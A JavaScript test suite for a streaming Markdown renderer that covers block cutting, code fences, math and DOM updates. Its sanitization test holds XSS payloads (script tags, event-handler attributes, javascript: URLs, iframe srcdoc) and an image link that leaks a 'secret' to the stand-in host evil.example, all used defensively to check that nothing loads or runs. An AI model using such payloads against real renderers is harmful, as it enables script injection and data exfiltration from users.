import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { before, test } from "node:test";
import { JSDOM } from "jsdom";
import { cut, lex, openFence, toHtml } from "../src/blocks.js";

const SAMPLE = readFileSync(new URL("./sample.txt", import.meta.url), "utf8");
/** Where an address is defined after it is used, only the whole text can tell. */
const WITHOUT_REFERENCES = SAMPLE.replace(/^\[\w+\]:.*$/gm, "");

/** Every way this text can grow, a few characters at a time. */
function* growths(text, step) {
  for (let end = step; end < text.length; end += step) yield text.slice(0, end);
  yield text;
}

test("closed blocks are never taken back: block by block equals the whole, byte for byte", () => {
  for (const step of [1, 7, 64]) {
    let openAt = 0;
    let html = "";
    let last = { open: [] };
    for (const text of growths(WITHOUT_REFERENCES, step)) {
      last = cut(text.slice(openAt));
      for (const token of last.closed) html += toHtml([token]);
      openAt = text.length - last.rest.length;
    }
    assert.equal(html + toHtml(last.open), toHtml(lex(WITHOUT_REFERENCES)), `step ${step}`);
  }
});

test("a long list closes its items, and is one list again at the end", () => {
  const items = Array.from({ length: 40 }, (_, i) => `${i + 1}. item ${i + 1}\n`);
  const text = items.join("");
  const { closed, open, rest } = cut(text);
  assert.equal(closed.map((token) => token.raw).join("") + rest, text);
  assert.equal(closed[0].items.length, 38);
  assert.match(toHtml(open), /^<ol start="39">/);
  assert.equal(toHtml(lex(text)).match(/<ol/g).length, 1);
});

test("an open fence is known as such, a closed one not", () => {
  assert.deepEqual(openFence("```python x\na = 1\n"), { language: "python", code: "a = 1\n" });
  assert.deepEqual(openFence("~~~\n```\n"), { language: "", code: "```\n" });
  assert.equal(openFence("```\na\n```\n"), null);
  assert.equal(openFence("```"), null);
  assert.equal(openFence("text"), null);
});

/** @type {typeof import("../src/markdown.js")} */
let markdown;
/** @type {typeof import("../src/streamed.js")} */
let streamed;

before(async () => {
  const { window } = new JSDOM("<!doctype html>", { pretendToBeVisual: true });
  for (const name of [
    "document",
    "DOMParser",
    "HTMLElement",
    "Text",
    "Node",
    "requestAnimationFrame",
  ]) {
    globalThis[name] = window[name];
  }
  globalThis.window = window;
  markdown = await import("../src/markdown.js");
  streamed = await import("../src/streamed.js");
});

const show = (text) => {
  const host = document.createElement("div");
  host.append(markdown.render(text));
  return host;
};

test("hostile text makes no element that loads, runs or submits", () => {
  const hostile = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "![ref][r]\n\n[r]: https://evil.example/x.png",
    "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html,x) [v](vbscript:x)",
    "[relative](/accounts/logout/) [proto](//evil.example)",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<svg><animate onbegin=alert(1)></svg><math><mi xlink:href='javascript:x'>",
    "<form action=/x><input name=y><button>z</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<iframe srcdoc='<script>x</script>'></iframe><object data=x></object><style>*{}</style>",
    '```"onmouseover="alert(1)\ncode\n```',
    '<p style="position:fixed">x</p>',
    "a <b>bold</b> <!-- comment --> <![CDATA[x]]>",
    '[x](https://ok.example "t\' onmouseover=alert(1) \\"")',
  ].join("\n\n");
  const host = show(hostile);
  const bad = "script,img,svg,math,form,input,iframe,object,style,details,b,link,video,audio";
  for (const button of host.querySelectorAll(".code button")) button.remove();
  assert.equal(host.querySelectorAll(bad).length, 0);
  for (const element of host.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      assert.ok(!name.startsWith("on") && name !== "style" && name !== "src", `${name}=${value}`);
    }
  }
  for (const link of host.querySelectorAll("a[href]")) {
    assert.match(link.getAttribute("href"), /^(https?:\/\/|mailto:)/i);
    assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
    assert.equal(link.getAttribute("target"), "_blank");
  }
  assert.match(host.textContent, /<script>alert\(1\)<\/script>/);
});

test("an image is a link with its description", () => {
  const link = show("![A map](https://example.org/map.png)").querySelector("a");
  assert.equal(link.textContent, "A map");
  assert.equal(link.getAttribute("href"), "https://example.org/map.png");
});

test("code has its language, a Copy button and exactly its text", () => {
  const host = show("```js\nif (a < b && c) {}\n\n  </code>\n```");
  assert.equal(host.querySelector(".code-language").textContent, "js");
  assert.equal(host.querySelector("pre > code").textContent, "if (a < b && c) {}\n\n  </code>\n");
  assert.ok(host.querySelector(".code button"));
});

test("prices are no formulas, formulas keep their source until they are typeset", () => {
  assert.equal(show("It costs $5 to $10, or US$7.").querySelector(".math-source"), null);
  assert.equal(show("So $a < b$ holds.").querySelector(".math-source").textContent, "a < b");
  assert.equal(show("$$\nx^2\n$$").querySelector("div.math-source").textContent, "x^2");
  assert.equal(show("`$a$`").querySelector(".math-source"), null);
});

const frame = () => new Promise((resolve) => requestAnimationFrame(() => resolve()));

/** Frames are left out where the one before took long: waits until the DOM has come to this. */
async function until(isSo) {
  for (let left = 500; left > 0; left--) {
    if (isSo()) return;
    await frame();
  }
  assert.fail("the DOM did not come to this");
}

const stream = () => {
  const host = document.createElement("div");
  document.body.append(host);
  return { host, view: new streamed.StreamedMarkdown(host) };
};

/** The structure without what comes later by itself: formulas and colours. */
function structure(host) {
  const copy = host.cloneNode(true);
  for (const place of copy.querySelectorAll("span, div")) {
    if (place.matches(".math-source") || place.querySelector(":scope > .math")) place.remove();
  }
  for (const code of copy.querySelectorAll("pre > code")) code.replaceChildren(code.textContent);
  return copy.innerHTML;
}

test("a streamed text ends as the same DOM as a whole one, late references included", async () => {
  const { host, view } = stream();
  for (const text of growths(SAMPLE, 97)) {
    view.set(text, false);
    await frame();
  }
  view.set(SAMPLE, true);
  await until(() => host.querySelector('a[title="One"]'));
  assert.ok(structure(host) === structure(show(SAMPLE)), "the two differ");
});

test("a text without references keeps the nodes it had", async () => {
  const { host, view } = stream();
  view.set("# One\n\nfirst\n\nsecond\n\nthird", false);
  await until(() => host.textContent.includes("third"));
  const heading = host.firstElementChild;
  view.set("# One\n\nfirst\n\nsecond\n\nthird and last", true);
  await until(() => host.textContent.includes("last"));
  assert.equal(host.firstElementChild, heading);
  assert.equal(structure(host), structure(show("# One\n\nfirst\n\nsecond\n\nthird and last")));
});

test("a text that goes on after its end goes on in its last block", async () => {
  const { host, view } = stream();
  view.set("First.\n\nIt was", true);
  await until(() => host.querySelectorAll("p").length === 2);
  view.set("First.\n\nIt was cut *off", false);
  await until(() => host.textContent.includes("off"));
  assert.equal(host.lastElementChild.textContent, "It was cut *off");
});

test("a text that is replaced leaves nothing of the one before", async () => {
  const { host, view } = stream();
  view.set("# One\n\nfirst\n\nsecond\n\nthird", false);
  await until(() => host.textContent.includes("third"));
  view.set("Two", false);
  await until(() => host.textContent.trim() === "Two");
});

test("an open code block grows in place, and closes", async () => {
  const { host, view } = stream();
  view.set("Look:\n\n```python\na = 1\n", false);
  await until(() => host.querySelector("pre > code"));
  const code = host.querySelector("pre > code");
  view.set("Look:\n\n```python\na = 1\nb = '<i>'\n", false);
  await until(() => code.textContent === "a = 1\nb = '<i>'\n");
  assert.equal(host.querySelector("pre > code"), code);
  view.set("Look:\n\n```python\na = 1\nb = '<i>'\n```\n\nDone.", false);
  await until(() => host.lastElementChild.textContent === "Done.");
  view.set("Look:\n\n```python\na = 1\nb = '<i>'\n```\n\nDone.", true);
  await until(() => !host.querySelector("[data-open]"));
  assert.equal(host.querySelectorAll("pre").length, 1);
  assert.equal(host.querySelector("pre > code").textContent, "a = 1\nb = '<i>'\n");
});

test("what Markdown makes of a text may fail, the text is shown all the same", () => {
  const error = console.error;
  console.error = () => {};
  try {
    const host = document.createElement("div");
    host.append(markdown.plain("<b>text</b>", new Error("broken")));
    assert.equal(host.textContent, "<b>text</b>");
    assert.equal(host.querySelector("b"), null);
  } finally {
    console.error = error;
  }
});
